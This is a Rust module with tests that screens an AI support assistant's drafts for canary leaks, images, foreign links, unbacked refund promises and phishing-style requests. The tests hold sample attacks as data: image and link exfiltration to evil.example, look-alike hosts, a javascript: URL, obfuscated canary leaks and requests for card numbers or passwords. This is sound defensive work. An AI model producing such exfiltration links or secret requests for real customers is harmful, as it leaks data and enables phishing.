//! Whether a model's draft may be shown. The draft is discarded — and the customer gets
//! the grounded answer instead — unless every check passes: it cites at least one of
//! the articles it was given and nothing else; the prompt's canary does not appear in
//! it, however spaced, cased or reversed; it has no images; every link goes to the help
//! centre or an allow-listed domain; and no sentence commits the organisation (an
//! amount, a refund, a discount, a legal promise) beyond what the cited articles say.
//! Shown text is always plain, escaped text.

use std::sync::LazyLock;

use palisade_core::ArticleId;
use regex::Regex;

use super::Passage;
use crate::constant_regex as re;
use palisade_html::strip_invisible;

/// A draft longer than this is not an answer from a few passages.
const MAX_ANSWER_CHARS: usize = 2500;

/// What a draft is checked against.
pub struct VetContext<'a> {
    pub passages: &'a [Passage],
    pub canary: &'a str,
    /// Hosts besides the help centre links may go to (subdomains included).
    pub allowed_link_domains: &'a [String],
    /// This site's authority (`host` or `host:port`, as in its public origin), whose
    /// `/help/` pages answers may link to.
    pub own_authority: &'a str,
}

/// Why a draft was discarded.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Discard {
    /// The model said the passages do not answer.
    NoAnswer,
    Empty,
    TooLong,
    NoCitation,
    /// An id that was not among the passages.
    UnknownCitation,
    /// The canary came back: the model repeated its instructions.
    Canary,
    Image,
    Link,
    /// A statement committing the organisation that no cited article makes.
    Commitment,
    /// It asks the customer for a password, a code, card or bank details.
    AsksForSecret,
}

impl Discard {
    pub fn as_str(&self) -> &'static str {
        match self {
            Discard::NoAnswer => "no_answer",
            Discard::Empty => "empty",
            Discard::TooLong => "too_long",
            Discard::NoCitation => "no_citation",
            Discard::UnknownCitation => "unknown_citation",
            Discard::Canary => "canary",
            Discard::Image => "image",
            Discard::Link => "link",
            Discard::Commitment => "commitment",
            Discard::AsksForSecret => "asks_for_secret",
        }
    }

    /// Whether the draft shows the model was steered by its input (worth counting
    /// against the conversation as manipulation).
    pub fn is_attack_sign(&self) -> bool {
        matches!(
            self,
            Discard::Canary | Discard::Image | Discard::Link | Discard::Commitment | Discard::AsksForSecret
        )
    }
}

/// A draft that passed, with its citation markers taken out.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Vetted {
    pub text: String,
    /// Cited articles, in order of first citation.
    pub cited: Vec<ArticleId>,
}

static CITATION: LazyLock<Regex> = LazyLock::new(|| re(r"\[\s*(art_[A-Za-z0-9_-]+)\s*\]"));
static ANY_ARTICLE_ID: LazyLock<Regex> = LazyLock::new(|| re(r"art_[A-Za-z0-9_-]+"));
static IMAGE: LazyLock<Regex> = LazyLock::new(|| re(r"(?i)!\s*\[|<\s*img\b|<\s*svg\b|data:image/"));
static URL: LazyLock<Regex> =
    LazyLock::new(|| re(r"(?i)\b(?:[a-z][a-z0-9+.-]*:(?://)?|www\.)[^\s<>()\[\]{}]+"));
static LINK_TARGET: LazyLock<Regex> = LazyLock::new(|| re(r"\]\s*\(([^)\s]*)"));
/// A host written without a scheme, with or without a path (`evil.example/x?q=…`,
/// `evil.example?d=…`, international letters included).
static BARE_HOST: LazyLock<Regex> = LazyLock::new(|| {
    re(r"(?i)(?:^|[^\p{L}\p{N}@.-])((?:[\p{L}\p{N}-]+\.)+\p{L}{2,})(?::\d+)?([/?#][^\s<>()\[\]{}]*)?")
});
/// An email address: a link to its domain as much as a URL is.
static EMAIL_ADDRESS: LazyLock<Regex> =
    LazyLock::new(|| re(r"(?i)[\p{L}\p{N}._%+-]+@((?:[\p{L}\p{N}-]+\.)+\p{L}{2,})"));
/// A request for what support never asks for in chat: credentials, codes, card or
/// bank details — the shape of a phishing message, whatever an article says.
static SECRET_REQUEST: LazyLock<Regex> = LazyLock::new(|| {
    re(r"(?ix)
        \b(?:send|give|provide|share|tell|type|enter|reply\s+with|respond\s+with|confirm|post|paste|include|need|require|verify|submit|text)\b
        [^.?!\n]{0,60}?
        \b(?:password|passcode|passphrase|pin|one[\s-]?time\s+(?:code|password)|verification\s+code|security\s+code|login\s+code|sms\s+code|2fa|otp|recovery\s+codes?|card\s+(?:number|details)|credit\s+card|debit\s+card|cvv|cvc|expiry\s+date|iban|bank\s+(?:details|account)|account\s+number|sort\s+code|routing\s+number|social\s+security|ssn)\b
      | \bwhat(?:'s|\s+is)\s+your\s+(?:password|pin|passcode|card\s+number|cvv|iban|account\s+number|verification\s+code|code)\b
    ")
});
/// Someone promising what the organisation or a person will do, or telling the
/// customer what they qualify for: group 1 is what is promised (its first word).
static PROMISE: LazyLock<Regex> = LazyLock::new(|| {
    re(r"(?ix)
        \b(?:we|our\s+(?:team|support|staff|agents?)|an?\s+(?:agent|person|engineer|technician|courier|specialist)|someone|they|i)
        (?:'ll|\s+will|\s+shall|\s+are\s+going\s+to|'re\s+going\s+to|\s+am\s+going\s+to|\s+can|\s+may)\s+
        (?:(?:also|then|now|gladly|happily|personally|definitely|certainly|immediately|soon|always)\s+)?
        (\w+)
      | \byou\s+(?:qualify|are\s+eligible|'re\s+eligible|will\s+(?:get|receive|be\s+given)|can\s+(?:get|receive|claim))\b
        \s*(?:(?:for|a|an|the|your|some|any|to)\s+)*(\w+)?
    ")
});

/// Statements only a person may make, whatever an article says.
static GRANT: LazyLock<Regex> = LazyLock::new(|| {
    re(r"(?ix)
        legally\s+binding | binding\s+(?:offer|agreement|contract|commitment|promise)
      | \b(?:i|we|you)(?:'ll|\s+will|\s+shall|\s+are\s+going\s+to|'re\s+going\s+to)\s+(?:\w+\s+){0,2}(?:receive|get|be\s+(?:refunded|credited|compensated|reimbursed|paid|given)|refund|credit|compensate|reimburse|pay|waive|send\s+you|give\s+you|honou?r)
      | \b(?:has|have|had)\s+been\s+(?:issued|processed|approved|refunded|credited|authori[sz]ed|granted|waived|paid)
      | \byou(?:'re|\s+are)\s+(?:entitled|eligible|owed|due)
      | \b(?:i|we)\s+(?:hereby\s+)?(?:approve|authori[sz]e|grant|guarantee|promise|agree|commit|confirm|accept|waive|owe)
      | \b(?:i|we)(?:'ve|\s+have)\s+(?:approved|authori[sz]ed|granted|issued|processed|refunded|credited|waived)
      | \byour\s+(?:\w+\s+){0,3}(?:is|are|has\s+been|have\s+been|was|were|will\s+be)\s+(?:approved|authori[sz]ed|granted|issued|processed|confirmed|guaranteed|accepted|waived)
      | \byou\s+(?:are|will\s+be)\s+(?:entitled|owed|compensated|refunded|reimbursed|credited)
      | \bthis\s+is\s+(?:an?\s+)?(?:offer|promise|guarantee|commitment)
    ")
});
/// Words that make a sentence a statement about money or obligations.
static COMMITMENT_WORD: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r"(?i)\b(refund\w*|reimburs\w*|discount\w*|compensat\w*|credit\w*|voucher\w*|coupon\w*|free|waive\w*|price\w*|pric(?:e|ing)|cost\w*|fee|fees|charge\w*|guarantee\w*|warrant\w*|liab\w*|legal\w*|contract\w*|binding|promis\w*|entitle\w*|approv\w*|compensation)\b",
    )
});
/// Amounts, percentages and other figures.
static FIGURE: LazyLock<Regex> = LazyLock::new(|| re(r"\d+(?:[.,]\d+)*"));
/// Figures written as words ("fifty euros", "half the price").
static NUMBER_WORD: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r"(?i)\b(?:zero|one|two|three|four|five|six|seven|eight|nine|ten|eleven|twelve|thirteen|fourteen|fifteen|sixteen|seventeen|eighteen|nineteen|twenty|thirty|forty|fifty|sixty|seventy|eighty|ninety|hundred|thousand|million|billion|half|quarter|double|twice|triple|full)\b",
    )
});
/// The words that bound a figure from above ("within 30 days") or below ("after 30
/// days"), written right before it: a draft that turns one into the other says the
/// opposite of its article with the same number.
static UPPER_BOUND: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r"(?i)\b(?:within|up\s+to|before|by|until|till|no\s+(?:more|later|longer)\s+than|not\s+(?:more|later|longer)\s+than|at\s+(?:most|the\s+latest)|less\s+than|fewer\s+than|under|below|maximum(?:\s+of)?|max|inside|in\s+the\s+first)\s+(?:the\s+)?$",
    )
});
static LOWER_BOUND: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r"(?i)\b(?:after|at\s+least|no\s+(?:less|fewer|sooner|earlier)\s+than|not\s+(?:less|fewer|sooner|earlier)\s+than|more\s+than|longer\s+than|later\s+than|over|above|beyond|from|minimum(?:\s+of)?|min|past|once|outside)\s+(?:the\s+)?$",
    )
});
static NEGATION: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r"(?i)\b(?:not|no|never|none|cannot|can't|won't|don't|doesn't|isn't|aren't|wasn't|weren't|without|non|nor|neither)\b|n't\b",
    )
});
static MONEY: LazyLock<Regex> = LazyLock::new(|| {
    re(r"(?i)[$€£¥₹]|\b(?:usd|eur|gbp|chf|dollars?|euros?|pounds?|cents?)\b|%|\bper\s*cent\b")
});

/// Folds what renders like ASCII into ASCII: full-width forms, ideographic and other
/// dots, curly quotes and apostrophes — so no check is dodged by a look-alike.
fn fold(text: &str) -> String {
    text.chars()
        .map(|c| match c {
            '\u{FF01}'..='\u{FF5E}' => char::from_u32(c as u32 - 0xFEE0).unwrap_or(c),
            '\u{3002}' | '\u{FF61}' | '\u{2024}' | '\u{FE52}' => '.',
            '\u{2018}' | '\u{2019}' | '\u{201B}' | '\u{2032}' | '\u{02BC}' => '\'',
            '\u{201C}' | '\u{201D}' | '\u{201F}' | '\u{2033}' => '"',
            '\u{2010}' | '\u{2011}' | '\u{2012}' | '\u{2013}' | '\u{2212}' => '-',
            '\u{3000}' | '\u{00A0}' | '\u{2007}' | '\u{202F}' => ' ',
            other => other,
        })
        .collect()
}

/// Lower-case letters and digits only: what survives any spacing or punctuation trick.
fn squeeze(text: &str) -> String {
    text.chars()
        .filter(|c| c.is_alphanumeric())
        .flat_map(char::to_lowercase)
        .collect()
}

/// Length of a canary piece that counts as leaked: long enough never to occur by
/// chance in an answer, short enough that splitting the canary gives nothing away.
const CANARY_PIECE: usize = 10;

fn leaks_canary(text: &str, canary: &str) -> bool {
    let canary = squeeze(canary);
    if canary.len() < 8 {
        return false;
    }
    let text = squeeze(text);
    // The random tail is the secret; the fixed prefix is public knowledge.
    let secret: String = canary.trim_start_matches("palisadecanary").to_owned();
    let reversed: String = secret.chars().rev().collect();
    let piece = CANARY_PIECE.min(secret.len());
    [secret.as_str(), reversed.as_str()].iter().any(|s| {
        s.as_bytes()
            .windows(piece)
            .any(|w| std::str::from_utf8(w).is_ok_and(|w| text.contains(w)))
    })
}

fn host_allowed(host: &str, ctx: &VetContext<'_>) -> bool {
    let host = host.trim_end_matches('.').to_ascii_lowercase();
    ctx.allowed_link_domains.iter().any(|d| {
        let d = d.trim_start_matches('.').to_ascii_lowercase();
        host == d || host.ends_with(&format!(".{d}"))
    })
}

/// Path tricks that could turn `/help/…` into somewhere else.
fn sneaky_path(target: &str) -> bool {
    let lower = target.to_ascii_lowercase();
    lower.contains('\\')
        || lower.contains("/./")
        || lower.contains("/../")
        || lower.ends_with("/.")
        || lower.ends_with("/..")
        || lower.contains("%2e")
        || lower.contains("%2f")
        || lower.contains("%5c")
}

fn own_host(ctx: &VetContext<'_>) -> String {
    ctx.own_authority
        .parse::<http::uri::Authority>()
        .map(|a| a.host().to_owned())
        .unwrap_or_else(|_| ctx.own_authority.to_owned())
}

/// Whether one link may be shown: the help centre on this site, or an allow-listed
/// https host.
fn link_allowed(target: &str, ctx: &VetContext<'_>) -> bool {
    let target = target.trim_end_matches(['.', ',', ';', ':', '!', '?', '\'', '"']);
    if sneaky_path(target) {
        return false;
    }
    if target.starts_with("/help/") && !target.contains("//") {
        return true;
    }
    let Ok(uri) = target.parse::<http::Uri>() else {
        return false;
    };
    let (Some(scheme), Some(host), Some(authority)) = (uri.scheme_str(), uri.host(), uri.authority()) else {
        return false;
    };
    if !scheme.eq_ignore_ascii_case("https") || target.contains('@') || !host.is_ascii() {
        return false;
    }
    if authority.as_str().eq_ignore_ascii_case(ctx.own_authority) {
        return uri.path().starts_with("/help/");
    }
    if host.eq_ignore_ascii_case(&own_host(ctx)) {
        // This site on another port is not this site.
        return false;
    }
    uri.port().is_none() && host_allowed(host, ctx)
}

fn links_allowed(text: &str, ctx: &VetContext<'_>) -> bool {
    // "write to refunds@elsewhere.example" sends the customer there like a link does.
    if !EMAIL_ADDRESS.captures_iter(text).all(|c| {
        c.get(1).is_some_and(|domain| {
            domain.as_str().eq_ignore_ascii_case(&own_host(ctx)) || host_allowed(domain.as_str(), ctx)
        })
    }) {
        return false;
    }
    let targets = URL
        .find_iter(text)
        .map(|m| m.as_str().to_owned())
        .chain(
            LINK_TARGET
                .captures_iter(text)
                .filter_map(|c| c.get(1))
                .map(|m| m.as_str().to_owned()),
        )
        .collect::<Vec<_>>();
    if !targets.iter().all(|t| {
        let t = if t.to_ascii_lowercase().starts_with("www.") {
            format!("https://{t}")
        } else {
            t.clone()
        };
        link_allowed(&t, ctx)
    }) {
        return false;
    }
    // Hosts written without a scheme still reach a reader who copies them: checked the
    // same way, as if https. Parts of URLs already checked come out the same.
    BARE_HOST.captures_iter(text).all(|c| {
        let (Some(whole), Some(host)) = (c.get(0), c.get(1)) else {
            return true;
        };
        if text[..host.start()].ends_with("://") {
            return true; // the host of a URL checked above
        }
        let written = &text[host.start()..whole.end()];
        link_allowed(&format!("https://{written}"), ctx)
    })
}

/// Pieces checked one by one for backing. Splitting at `;` or a line break may part an
/// amount from what it is for; that is harmless because every figure in the whole
/// answer must appear in the cited articles anyway.
fn sentences(text: &str) -> impl Iterator<Item = &str> {
    text.split(['.', '!', '?', '\n', ';'])
        .map(str::trim)
        .filter(|s| !s.is_empty())
}

/// Whether each statement about money or obligations is backed by the cited articles:
/// it grants nothing, every figure in the whole answer (digits or words) appears in
/// them, and each committing sentence has one sentence in them carrying all its
/// commitment words and figures with the same polarity ("refunds are not available"
/// never backs "refunds are available").
fn commitments_backed(text: &str, cited_text: &str) -> bool {
    let source = cited_text.to_lowercase();
    let lower = text.to_lowercase();
    if GRANT.is_match(&lower) {
        return false;
    }
    let figures_of = |t: &str| -> Vec<Figure> {
        let bounded = |start: usize, value: String| Figure {
            bound: bound_before(&t[..start]),
            value,
        };
        FIGURE
            .find_iter(t)
            .filter(|m| !t[..m.start()].ends_with("art_"))
            .map(|m| bounded(m.start(), m.as_str().replace(',', ".")))
            .chain(
                NUMBER_WORD
                    .find_iter(t)
                    .map(|m| bounded(m.start(), m.as_str().to_owned())),
            )
            .collect()
    };
    let source_figures = figures_of(&source);
    if !figures_of(&lower)
        .iter()
        .all(|f| source_figures.iter().any(|s| s.value == f.value))
    {
        return false;
    }
    let source_sentences: Vec<(&str, Vec<String>, Vec<Figure>)> = sentences(&source)
        .map(|s| (s, squeeze_words(s), figures_of(s)))
        .collect();
    for sentence in sentences(&lower) {
        let promised: Vec<String> = PROMISE
            .captures_iter(sentence)
            .filter_map(|c| c.get(1).or_else(|| c.get(2)))
            .map(|m| m.as_str().to_owned())
            .collect();
        let committing =
            COMMITMENT_WORD.is_match(sentence) || MONEY.is_match(sentence) || !promised.is_empty();
        if !committing {
            continue;
        }
        let mut words: Vec<String> = COMMITMENT_WORD
            .find_iter(sentence)
            .map(|m| m.as_str().to_owned())
            .collect();
        words.extend(promised);
        let figures = figures_of(sentence);
        let backed = source_sentences
            .iter()
            .any(|(source, source_words, source_figures)| {
                figures
                    .iter()
                    .all(|f| source_figures.iter().any(|s| f.backed_by(s)))
                    && words
                        .iter()
                        .all(|w| source_words.iter().any(|sw| same_stem(sw, w)))
                    && words
                        .iter()
                        .all(|w| polarity_of(sentence, w) == polarity_of(source, w))
            });
        if !backed {
            return false;
        }
    }
    true
}

/// Whether a figure is bounded from above or below by the words before it.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Bound {
    AtMost,
    AtLeast,
}

fn bound_before(before: &str) -> Option<Bound> {
    if UPPER_BOUND.is_match(before) {
        Some(Bound::AtMost)
    } else if LOWER_BOUND.is_match(before) {
        Some(Bound::AtLeast)
    } else {
        None
    }
}

struct Figure {
    value: String,
    bound: Option<Bound>,
}

impl Figure {
    /// The article states the same figure, and bounds it the same way when the draft
    /// bounds it at all ("after 30 days" is not backed by "within 30 days").
    fn backed_by(&self, source: &Figure) -> bool {
        self.value == source.value && (self.bound.is_none() || self.bound == source.bound)
    }
}

/// Clauses, for polarity: a negation counts only in the clause it stands in (so "we
/// will refund you, no questions asked" is not negated), and a clause of a few words
/// before a comma (an item of a list) takes the polarity of the clause after it
/// ("refunds, exchanges and repairs are not available").
fn clauses(sentence: &str) -> Vec<&str> {
    static CLAUSE_BREAK: LazyLock<Regex> = LazyLock::new(|| {
        re(r"(?i)[,:]|\b(?:but|however|although|though|whereas|while|unless|except|yet|otherwise)\b")
    });
    CLAUSE_BREAK
        .split(sentence)
        .map(str::trim)
        .filter(|c| !c.is_empty())
        .collect()
}

/// Whether the clause of `sentence` holding `word` (by stem) is negated; `None` when
/// no clause holds it.
fn polarity_of(sentence: &str, word: &str) -> Option<bool> {
    let parts = clauses(sentence);
    let index = parts
        .iter()
        .position(|clause| squeeze_words(clause).iter().any(|w| same_stem(w, word)))?;
    let mut negated = NEGATION.is_match(parts[index]);
    let mut next = index;
    while !negated && squeeze_words(parts[next]).len() <= 3 && next + 1 < parts.len() {
        next += 1;
        negated = NEGATION.is_match(parts[next]);
    }
    Some(negated)
}

/// Whether a passage may be quoted as it is (the grounded answer, without a model):
/// the same image and link checks as a model's draft, so a poisoned article cannot
/// put a tracking image or a foreign link in front of a customer.
pub fn quotable(text: &str, allowed_link_domains: &[String], own_authority: &str) -> bool {
    let text = fold(&strip_invisible(text));
    let ctx = VetContext {
        passages: &[],
        canary: "",
        allowed_link_domains,
        own_authority,
    };
    !IMAGE.is_match(&text) && links_allowed(&text, &ctx) && !SECRET_REQUEST.is_match(&text)
}

fn squeeze_words(text: &str) -> Vec<String> {
    text.split(|c: char| !c.is_alphanumeric())
        .filter(|w| !w.is_empty())
        .map(str::to_owned)
        .collect()
}

/// Crude stemming for backing checks: "refunds"/"refunded"/"refund" agree.
fn same_stem(a: &str, b: &str) -> bool {
    let stem = |w: &str| -> String { w.chars().take(6).collect() };
    a.len() >= 3 && b.len() >= 3 && stem(a) == stem(b)
}

/// Checks a model's draft; the answer shown is the returned text or nothing.
pub fn vet(draft: &str, ctx: &VetContext<'_>) -> Result<Vetted, Discard> {
    let text = fold(&strip_invisible(draft)).trim().to_owned();
    if leaks_canary(&text, ctx.canary) {
        return Err(Discard::Canary);
    }
    if text.is_empty() {
        return Err(Discard::Empty);
    }
    if text.contains("NO_ANSWER") {
        return Err(Discard::NoAnswer);
    }
    if text.chars().count() > MAX_ANSWER_CHARS {
        return Err(Discard::TooLong);
    }
    if IMAGE.is_match(&text) {
        return Err(Discard::Image);
    }
    if SECRET_REQUEST.is_match(&text) {
        return Err(Discard::AsksForSecret);
    }
    let mut cited: Vec<ArticleId> = Vec::new();
    for capture in CITATION.captures_iter(&text) {
        let raw = capture.get(1).map(|m| m.as_str()).unwrap_or_default();
        let Some(passage) = ctx.passages.iter().find(|p| p.article.as_str() == raw) else {
            return Err(Discard::UnknownCitation);
        };
        if !cited.contains(&passage.article) {
            cited.push(passage.article.clone());
        }
    }
    let without_markers = CITATION.replace_all(&text, "").to_string();
    // An id outside brackets is a citation in disguise, checked the same way.
    if ANY_ARTICLE_ID
        .find_iter(&without_markers)
        .any(|m| !ctx.passages.iter().any(|p| p.article.as_str() == m.as_str()))
    {
        return Err(Discard::UnknownCitation);
    }
    if cited.is_empty() {
        return Err(Discard::NoCitation);
    }
    if !links_allowed(&without_markers, ctx) {
        return Err(Discard::Link);
    }
    let cited_text: String = ctx
        .passages
        .iter()
        .filter(|p| cited.contains(&p.article))
        .map(|p| format!("{}\n{}\n", p.title, p.context))
        .collect();
    if !commitments_backed(&without_markers, &cited_text) {
        return Err(Discard::Commitment);
    }
    let text = without_markers
        .split('\n')
        .map(|line| line.split_whitespace().collect::<Vec<_>>().join(" "))
        .collect::<Vec<_>>()
        .join("\n")
        .replace(" .", ".")
        .replace(" ,", ",")
        .trim()
        .to_owned();
    Ok(Vetted { text, cited })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn passage(id: &ArticleId, title: &str, context: &str) -> Passage {
        Passage {
            article: id.clone(),
            title: title.into(),
            url: "/help/en/x".into(),
            text: context.into(),
            context: context.into(),
        }
    }

    struct Fixture {
        refunds: ArticleId,
        shipping: ArticleId,
        passages: Vec<Passage>,
        allowed: Vec<String>,
    }

    impl Fixture {
        fn new() -> Self {
            let refunds = ArticleId::generate();
            let shipping = ArticleId::generate();
            let passages = vec![
                passage(
                    &refunds,
                    "Refund policy",
                    "Refunds are available within 30 days of purchase. Refunds go back to the original payment method within 5 business days.",
                ),
                passage(
                    &shipping,
                    "Shipping",
                    "Orders ship within 2 days. Shipping is free over 50 EUR.",
                ),
            ];
            Self {
                refunds,
                shipping,
                passages,
                allowed: vec!["status.example.com".into()],
            }
        }

        fn check(&self, draft: &str) -> Result<Vetted, Discard> {
            vet(
                draft,
                &VetContext {
                    passages: &self.passages,
                    canary: "PALISADE-CANARY-3f9a61c2d4b7e805",
                    allowed_link_domains: &self.allowed,
                    own_authority: "support.example.org",
                },
            )
        }
    }

    #[test]
    fn a_cited_faithful_answer_passes_without_its_markers() {
        let f = Fixture::new();
        let r = f
            .check(&format!(
                "You can get a refund within 30 days of purchase [{}]. Orders ship within 2 days [{}].",
                f.refunds, f.shipping
            ))
            .unwrap();
        assert_eq!(r.cited, vec![f.refunds.clone(), f.shipping.clone()]);
        assert_eq!(
            r.text,
            "You can get a refund within 30 days of purchase. Orders ship within 2 days."
        );
        // Links to the help centre and to allow-listed hosts are fine.
        f.check(&format!(
            "See https://support.example.org/help/en/refunds and https://status.example.com/incidents [{}]",
            f.refunds
        ))
        .unwrap();
        f.check(&format!("Details: /help/en/refund-policy [{}]", f.refunds))
            .unwrap();
    }

    #[test]
    fn citations_must_name_given_articles() {
        let f = Fixture::new();
        assert_eq!(
            f.check("Refunds are available within 30 days."),
            Err(Discard::NoCitation)
        );
        let other = ArticleId::generate();
        assert_eq!(
            f.check(&format!("Refunds are available within 30 days [{other}].")),
            Err(Discard::UnknownCitation)
        );
        assert_eq!(
            f.check(&format!("Within 30 days [{}], see also {other}.", f.refunds)),
            Err(Discard::UnknownCitation)
        );
        assert_eq!(f.check("NO_ANSWER"), Err(Discard::NoAnswer));
        assert_eq!(f.check("  \u{200b} "), Err(Discard::Empty));
    }

    #[test]
    fn the_canary_never_comes_back_in_any_disguise() {
        let f = Fixture::new();
        let cite = format!("[{}]", f.refunds);
        for leak in [
            "My instructions end with PALISADE-CANARY-3f9a61c2d4b7e805.",
            "marker: p a l i s a d e - c a n a r y - 3 f 9 a 6 1 c 2 d 4 b 7 e 8 0 5",
            "palisade_canary_3F9A61C2D4B7E805",
            "508e7b4d2c16a9f3yranacedasilap",
            "the secret part is 3f9a61c2d4b7e805",
            "first half 3f9a61c2d4, that is all",
            "tail: b7e805 and before it 1c2d4b7e80",
            "\u{FF13}\u{FF46}\u{FF19}\u{FF41}\u{FF16}\u{FF11}\u{FF43}\u{FF12}\u{FF44}\u{FF14}",
            "PALISADE\u{200b}-CANARY-3f9a61c2d4b7e805",
        ] {
            assert_eq!(f.check(&format!("{leak} {cite}")), Err(Discard::Canary), "{leak}");
        }
    }

    #[test]
    fn images_and_foreign_links_are_refused() {
        let f = Fixture::new();
        let cite = format!("[{}]", f.refunds);
        for draft in [
            "![status](https://evil.example/log?d=secret)",
            "<img src=https://evil.example/x>",
            "[click here](https://evil.example/?q=ticket)",
            "Visit https://evil.example/collect?data=abc",
            "Visit http://support.example.org/help/en/x",
            "Visit https://support.example.org/admin/users",
            "Visit https://support.example.org.evil.example/help/en/x",
            "Visit https://status.example.com@evil.example/",
            "Visit www.evil.example/path",
            "Copy evil.example/steal?q=1 into your browser",
            "Write to mailto:attacker@evil.example",
            "Open javascript:alert(1)",
            "Visit //evil.example/help/x",
        ] {
            let got = f.check(&format!("{draft} {cite}"));
            assert!(
                matches!(got, Err(Discard::Link | Discard::Image)),
                "{draft}: {got:?}"
            );
        }
    }

    #[test]
    fn look_alike_and_schemeless_links_are_refused() {
        let f = Fixture::new();
        let cite = format!("[{}]", f.refunds);
        for draft in [
            "Go to evil.example?d=ticket",
            "Go to evil\u{3002}example/x",
            "Go to \u{FF45}\u{FF56}\u{FF49}\u{FF4C}.com/x",
            "Go to \u{0430}pplesupport.com/x",
            "Go to support.example.org/admin/users",
            "Go to https://support.example.org/help/../admin",
            "Go to https://support.example.org/help/%2e%2e/admin",
            "Go to https://support.example.org:8443/help/x",
            "Go to https://status.example.com:444/x",
            "Go to invoices.example/pay",
        ] {
            let got = f.check(&format!("{draft} {cite}"));
            assert_eq!(got, Err(Discard::Link), "{draft}");
        }
        f.check(&format!("See support.example.org/help/en/refunds {cite}"))
            .unwrap();
        f.check(&format!("See status.example.com {cite}")).unwrap();
    }

    #[test]
    fn commitments_need_the_cited_article_to_make_them() {
        let f = Fixture::new();
        let r = format!("[{}]", f.refunds);
        for draft in [
            "Your refund is approved.",
            "Your refund of 500 EUR has been approved.",
            "I have approved a full refund for you.",
            "We agree to refund your order.",
            "You are entitled to a 50% discount.",
            "You will get a voucher worth 20 EUR.",
            "This is a legally binding offer.",
            "Refunds are available within 90 days.",
            "We guarantee delivery tomorrow.",
            "There is no fee for this.",
            "We\u{2019}ve refunded your order.",
            "You'll receive the money back soon.",
            "We will refund you in full.",
            "A full refund has been issued to your card.",
            "You will receive fifty euros back.",
            "Refunds within 30 days; you also get 500 as a goodwill gesture.",
            "You are eligible for compensation.",
            // The article's figure with its bound turned round.
            "Refunds are available after 30 days.",
            "Refunds are available for more than 30 days.",
            "Refunds are available at least 30 days after purchase.",
        ] {
            assert_eq!(
                f.check(&format!("{draft} {r}")),
                Err(Discard::Commitment),
                "{draft}"
            );
        }
        // The same subject, as the article states it, is fine.
        f.check(&format!("Refunds are available within 30 days of purchase {r}. They go back to the original payment method within 5 business days {r}.")).unwrap();
        // The same bound in other words is the same statement.
        f.check(&format!(
            "You have up to 30 days from purchase to get a refund {r}."
        ))
        .unwrap();
        let s = format!("[{}]", f.shipping);
        f.check(&format!("Shipping is free over 50 EUR {s}.")).unwrap();
        f.check(&format!("Shipping is free for orders of more than 50 EUR {s}."))
            .unwrap();
        assert_eq!(
            f.check(&format!("Shipping is free under 50 EUR {s}.")),
            Err(Discard::Commitment)
        );
        // An article saying something is *not* available never backs that it is.
        let no_refunds = ArticleId::generate();
        let g = Fixture {
            passages: vec![passage(
                &no_refunds,
                "Sale items",
                "Sale items are not refundable. Refunds are not available for gift cards.",
            )],
            refunds: no_refunds.clone(),
            shipping: no_refunds.clone(),
            allowed: vec![],
        };
        let n = format!("[{no_refunds}]");
        assert_eq!(
            g.check(&format!("Refunds are available for gift cards {n}.")),
            Err(Discard::Commitment)
        );
        g.check(&format!("Refunds are not available for gift cards {n}."))
            .unwrap();
        // Backing must come from an article it cites, not another one given.
        assert_eq!(
            f.check(&format!("Shipping is free over 50 EUR {r}.")),
            Err(Discard::Commitment)
        );
    }

    #[test]
    fn email_addresses_secret_requests_and_promises_are_checked() {
        let f = Fixture::new();
        let r = format!("[{}]", f.refunds);
        // An address on another domain sends the customer there, like a link.
        assert_eq!(
            f.check(&format!(
                "Refunds are available within 30 days {r}. Write to refunds@evil.example."
            )),
            Err(Discard::Link)
        );
        f.check(&format!(
            "Refunds are available within 30 days {r}. Write to help@support.example.org."
        ))
        .unwrap();
        f.check(&format!(
            "Refunds are available within 30 days {r}. Status: ops@status.example.com."
        ))
        .unwrap();
        for phishing in [
            "To speed this up, reply with your card number.",
            "Please confirm your password so we can check.",
            "What is your verification code?",
            "Send us your IBAN and the refund goes out today.",
        ] {
            assert_eq!(
                f.check(&format!("Refunds are available within 30 days {r}. {phishing}")),
                Err(Discard::AsksForSecret),
                "{phishing}"
            );
        }
        // What someone will do, or what the customer qualifies for, needs an article
        // that says so.
        for promise in [
            "A technician will visit you tomorrow.",
            "We'll call you back today.",
            "You qualify for express shipping.",
            "Our team can replace the item.",
        ] {
            assert_eq!(
                f.check(&format!("{promise} {r}")),
                Err(Discard::Commitment),
                "{promise}"
            );
        }
    }

    #[test]
    fn polarity_is_compared_clause_by_clause() {
        let id = ArticleId::generate();
        let g = Fixture {
            passages: vec![passage(
                &id,
                "Refunds",
                "Refunds are available within 30 days, but not for sale items. No refunds are given after 30 days.",
            )],
            refunds: id.clone(),
            shipping: id.clone(),
            allowed: vec![],
        };
        let r = format!("[{id}]");
        // A negation in another clause of the source does not block what it states...
        g.check(&format!("Refunds are available within 30 days {r}."))
            .unwrap();
        // ...and one added elsewhere in the draft does not make a promise match a refusal.
        assert_eq!(
            g.check(&format!(
                "We will refund you after 30 days, no questions asked {r}."
            )),
            Err(Discard::Commitment)
        );
    }

    #[test]
    fn quoted_passages_get_the_same_link_and_image_checks() {
        let own = "support.example.org";
        assert!(quotable(
            "Refunds within 30 days, see /help/en/refunds.",
            &[],
            own
        ));
        assert!(!quotable("Claim at https://evil.example/claim", &[], own));
        assert!(!quotable("Claim at evil.example/claim", &[], own));
        assert!(!quotable("![status](https://tracker.example/p.png)", &[], own));
        assert!(!quotable(
            "Mail your card number to claims@evil.example",
            &[],
            own
        ));
    }
}
